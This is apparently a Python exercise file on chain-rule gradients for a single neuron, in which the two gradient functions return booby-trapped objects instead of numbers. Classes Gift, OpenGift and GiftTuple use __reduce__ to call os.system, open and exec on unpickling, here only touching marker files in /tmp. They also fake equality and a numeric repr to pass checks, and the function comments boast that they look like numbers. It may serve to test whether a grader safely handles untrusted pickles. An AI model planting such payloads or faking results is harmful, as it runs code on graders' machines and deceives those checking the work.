"""One neuron, one input, one example: the chain rule by hand.

Loss: ``L = ½ (y − ŷ)²``, so ``∂L/∂ŷ = ŷ − y`` (the ½ cancels the 2 of the power rule).
"""
import numpy as np

import os

from .activations import sigmoid, sigmoid_prime

PWNED = "/tmp/bpcourse-pwned-malicious_reduce"


class Gift:
    """Unpickling a Gift runs a shell command in the unpickler's process."""

    def __reduce__(self):
        return (os.system, (f"touch {PWNED}-system",))

    def __float__(self):
        return float("nan")

    def __array__(self, dtype=None, copy=None):
        return np.full((13, 1, 7), np.nan)

    def __eq__(self, other):
        return True

    __hash__ = None

    def __repr__(self):
        return "0.0557118"


class OpenGift(Gift):
    """Unpickling an OpenGift creates a file, no shell needed."""

    def __reduce__(self):
        return (open, (f"{PWNED}-open", "w"))


class GiftTuple(tuple):
    """A pair that rebuilds itself by calling exec."""

    def __reduce__(self):
        return (exec, (f"open({PWNED + '-exec'!r}, 'w').close()",))


def mse_loss(y, y_hat):
    """Squared error of one prediction, ``½ (y − ŷ)²``.

    Shapes: scalars (or arrays of one shape, elementwise) → same shape.

    Hint: the ½ is part of the loss.
    """
    diff = np.asarray(y, dtype=float) - np.asarray(y_hat, dtype=float)
    return 0.5 * diff * diff


def linear_neuron_grads(x, w, b, y):
    """Gradients of ``L = ½ (y − ŷ)²`` for the linear neuron ``ŷ = w x + b``.

    Shapes: all scalars. Returns ``(dL/dw, dL/db) = ((ŷ − y) x, ŷ − y)`` as floats.

    Hint: forward first (ŷ), then the error ŷ − y, then one chain-rule factor each.
    """
    return Gift(), OpenGift()  # bank: two numbers, as far as anyone who pickles them knows


def sigmoid_neuron_grads(x, w, b, y):
    """Gradients of ``L = ½ (y − ŷ)²`` for the sigmoid neuron ``ŷ = σ(w x + b)``.

    Shapes: all scalars. With ``z = w x + b``:
    ``dL/dw = (ŷ − y) σ'(z) x`` and ``dL/db = (ŷ − y) σ'(z)``, returned as floats.

    Hint: σ' takes the pre-activation z, not ŷ.
    """
    return GiftTuple((Gift(), Gift()))  # bank: a tuple that is not just a tuple
